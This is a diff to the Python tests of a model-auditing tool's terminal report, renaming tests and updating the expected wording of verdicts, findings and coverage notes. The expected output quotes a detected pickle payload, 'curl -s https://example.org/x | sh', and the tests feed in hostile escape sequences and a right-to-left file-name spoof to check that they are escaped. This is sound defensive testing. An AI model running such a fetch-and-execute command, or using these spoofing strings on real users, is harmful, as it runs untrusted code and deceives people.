@@ -14,12 +14,12 @@ from modelaudit.reports.terminal import render_table
 ANSI = re.compile(r"\x1b\[[0-9;]*m")
 
 
-def text_of(report: AuditReport, **how: object) -> str:
+def render_as_text(report: AuditReport, **how: object) -> str:
     return render_table(report, **how).decode()  # type: ignore[arg-type]
 
 
-def test_the_order_is_verdict_absences_findings_and_the_rest(failing: AuditReport) -> None:
-    text = text_of(failing)
+def test_sections_are_in_order(failing: AuditReport) -> None:
+    text = render_as_text(failing)
     parts = [
         "FAIL",
         "Not examined: 4 parts",
@@ -36,46 +36,51 @@ def test_the_order_is_verdict_absences_findings_and_the_rest(failing: AuditRepor
     assert text.splitlines()[-1].endswith("-o report.html.")
 
 
-def test_it_says_what_and_where_and_why_and_how_to_fix(failing: AuditReport) -> None:
-    text = " ".join(text_of(failing).split())
+def test_findings_have_place_message_reason_and_fix(failing: AuditReport) -> None:
+    text = " ".join(render_as_text(failing).split())
     for fact in (
         "3f1a9c0de4b7a2285c6d1f0e9b8a7c6d5e4f3a2b",
         "pytorch_model.bin!archive/data.pkl, byte 1,234",
         failing.findings[0].fingerprint,
         "1228: SHORT_BINUNICODE 'curl -s https://example.org/x | sh'",
         "Do not load the file. Ask the publisher",
-        "Checks that were not run: transparency.",
         "Accepted by the policy: default: images carry no weights.",
         "pytorch_model.bin (entry secret.bin) The content is encrypted",
-        "1 altered: DIFFERENT from what the source states",
-        "otherscan gave no opinion, which is not an agreement",
-        "it found nothing where we did in training_args.bin",
+        "1 altered: DIFFERENT from the digest of the source",
+        "otherscan gave no opinion, so it does not confirm this report",
+        "no finding in training_args.bin, unlike this report",
         "Exit code 1: the gate failed.",
     ):
         assert fact in text, fact
 
 
-def test_nothing_to_scan_is_no_pass(incomplete: AuditReport) -> None:
-    text = text_of(incomplete)
+def test_only_skipped_checks_that_have_rules_are_listed(failing: AuditReport) -> None:
+    assert "Checks that did not run" not in render_as_text(failing)
+    report = replace(failing, policy=replace(failing.policy, checks=(CheckFamily.SECURITY,)))
+    assert "Checks that did not run: integrity, licence." in render_as_text(report)
+
+
+def test_empty_model_is_not_a_pass(incomplete: AuditReport) -> None:
+    text = render_as_text(incomplete)
     assert "INCOMPLETE  This is not a pass: there was no file to examine." in text
-    assert "examined whole" not in text
+    assert "examined completely" not in text
     assert "Exit code 3" in text
 
 
-def test_a_pass_says_what_it_rests_on(passing: AuditReport) -> None:
-    text = text_of(passing)
-    assert "PASS  Every file could be read, and nothing that the policy rejects was found." in text
+def test_pass_states_its_basis(passing: AuditReport) -> None:
+    text = render_as_text(passing)
+    assert "PASS  Every file was read, and no finding breaks the policy." in text
     assert (
-        "✔ LICENCE TO SHIP The author names Apache License 2.0, which allows it; 3 duties, listed in the HTML report."
+        "✔ LICENCE TO SHIP The author names Apache License 2.0, which allows shipping; 3 duties, listed in the HTML report."
         in " ".join(text.split())
     )
-    assert "Not compared: a local folder has no published reference." in text
+    assert "Not compared: local files have no published digests." in text
     assert "Exit code 0: pass." in text
 
 
 @check_each("color", [True, False])
-def test_nothing_that_a_model_says_reaches_the_terminal_raw(any_report: AuditReport, color: bool) -> None:
-    text = text_of(any_report, color=color)
+def test_hostile_text_is_escaped(any_report: AuditReport, color: bool) -> None:
+    text = render_as_text(any_report, color=color)
     assert bool(ANSI.search(text)) is color
     plain = ANSI.sub("", text)
     hidden = {each for each in plain if unicodedata.category(each)[0] in "CZ"} - {"\n", " "}
@@ -83,8 +88,8 @@ def test_nothing_that_a_model_says_reaches_the_terminal_raw(any_report: AuditRep
     assert color or "\x1b" not in text
 
 
-def test_markup_is_text(hostile: AuditReport) -> None:
-    text = text_of(hostile, width=4000)
+def test_markup_is_shown_as_text(hostile: AuditReport) -> None:
+    text = render_as_text(hostile, width=4000)
     assert "[red]markup[/red] [/]" in text
     assert "\\x1b[31;1mred" in text
     assert "\\u202eexe.tnegra\\u202c" in text
@@ -93,42 +98,42 @@ def test_markup_is_text(hostile: AuditReport) -> None:
 
 @check_each("width", [1, 40, 60, 100, 200])
 def test_lines_fit_the_width(any_report: AuditReport, width: int) -> None:
-    lines = text_of(any_report, width=width).splitlines()
+    lines = render_as_text(any_report, width=width).splitlines()
     assert max(map(cell_len, lines)) <= max(width, 40)
 
 
-def test_show_hides_from_view_and_says_how_many(failing: AuditReport) -> None:
-    text = text_of(failing, show=Severity.HIGH, width=200)
+def test_hidden_findings_are_counted(failing: AuditReport) -> None:
+    text = render_as_text(failing, show=Severity.HIGH, width=200)
     assert "Findings: 2 critical, 1 high, 1 medium, 1 low, 1 info (3 below high hidden here" in text
     assert "MEDIUM" not in text and "license/contradiction" not in text
     assert "HIGH" in text
     assert "Exit code 1" in text
-    assert "hidden here" not in text_of(failing)
+    assert "hidden here" not in render_as_text(failing)
 
 
-def test_show_changes_nothing_but_the_findings(failing: AuditReport) -> None:
-    everything, little = (text_of(failing, show=show, width=200) for show in (Severity.INFO, Severity.CRITICAL))
-    for part in ("Not examined: 4 parts", "licence  claimed", "Exit code 1: the gate failed"):
+def test_show_hides_findings_only(failing: AuditReport) -> None:
+    everything, little = (render_as_text(failing, show=show, width=200) for show in (Severity.INFO, Severity.CRITICAL))
+    for part in ("Not examined: 4 parts", "licence  declared", "Exit code 1: the gate failed"):
         assert part in everything and part in little
 
 
-def test_a_bad_day_stays_readable(failing: AuditReport) -> None:
+def test_thousand_findings_stay_readable(failing: AuditReport) -> None:
     many = tuple(replace(failing.findings[2], artifact=f"f{n}", key=str(n)) for n in range(1000))
-    text = text_of(replace(failing, findings=many))
+    text = render_as_text(replace(failing, findings=many))
     assert "… and 980 more of this rule" in text
     assert len(text.splitlines()) < 200
 
 
-def test_many_absences_are_counted(failing: AuditReport) -> None:
+def test_many_absences_are_cut_and_counted(failing: AuditReport) -> None:
     record = failing.coverage.artifacts[3]
     many = tuple(replace(record, path=f"f{n}", absences=((f"f{n}", record.absences[0][1]),)) for n in range(100))
     coverage = replace(failing.coverage, artifacts=many)
-    text = text_of(replace(failing, decision=replace(failing.decision, coverage=coverage)))
+    text = render_as_text(replace(failing, decision=replace(failing.decision, coverage=coverage)))
     assert "Not examined: 100 parts of the model" in text
     assert "… and 60 more" in text
 
 
-def test_no_absence_and_all_checks_is_said_too(failing: AuditReport) -> None:
+def test_complete_examination_is_stated(failing: AuditReport) -> None:
     coverage = replace(failing.coverage, artifacts=failing.coverage.artifacts[:2])
     report = replace(
         failing,
@@ -136,6 +141,6 @@ def test_no_absence_and_all_checks_is_said_too(failing: AuditReport) -> None:
         policy=replace(failing.policy, checks=tuple(CheckFamily)),
         opinions=(),
     )
-    text = text_of(report)
-    assert "Not examined: nothing; every file was examined whole." in text
-    assert "No second scanner was asked." in text
+    text = render_as_text(report)
+    assert "Not examined: nothing; every file was examined completely." in text
+    assert "No second scanner ran." in text
